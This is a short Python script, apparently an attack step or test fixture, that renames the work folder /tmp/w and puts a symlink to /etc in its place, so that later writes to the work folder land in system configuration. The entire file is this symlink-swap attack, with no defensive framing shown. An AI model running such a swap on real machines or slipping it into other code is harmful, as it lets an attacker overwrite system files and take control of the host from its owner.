"""Put a link to a folder of the system in the place of the work folder."""

import os

open("x", "w").write("own")
os.rename("/tmp/w", "/tmp/v")
os.symlink("/etc", "/tmp/w")
